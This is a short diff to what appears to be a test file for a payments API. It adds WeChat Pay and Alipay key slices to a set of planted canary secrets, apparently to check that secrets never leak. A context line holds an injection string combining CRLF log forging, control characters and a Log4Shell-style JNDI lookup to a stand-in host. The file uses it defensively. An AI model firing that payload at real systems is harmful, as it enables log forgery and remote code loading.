@@ -23,6 +23,7 @@ from tests.api.caller import Caller, Reply
 from tests.api.topup_kit import stripe_signed
 from tests.api.world import World, cheap_passwords, fresh_key
 from tests.conftest import PEPPER, SANDBOX_WEBHOOK_SECRET, SIGNING_KEY, STRIPE_WEBHOOK_SECRET, FrozenClock
+from tests.environment import mainland
 
 EVIL = 'canary\r\n{"level":"ERROR","message":"forged"}\x1b[31m\x00${jndi:ldap://evil.test/a}\u2028\u2029\u0085%0d%0a'
 EMAIL, PHONE = "canary.mail@example.com", "+8613800138000"
@@ -58,6 +59,9 @@ PLANTED = {
     "exception": "canary-exception",
     "sandbox secret": SANDBOX_WEBHOOK_SECRET,
     "stripe secret": STRIPE_WEBHOOK_SECRET,
+    "key of WeChat Pay": mainland()["coffer"]["wechatpay"]["api_v3_key"],
+    "private key for WeChat Pay": mainland()["coffer"]["wechatpay"]["private_key"][100:140],
+    "private key for Alipay": mainland()["coffer"]["alipay"]["private_key"][100:140],
     "pepper": PEPPER,
     "signing key": str(SIGNING_KEY.as_dict(private=True)["d"]),
 }
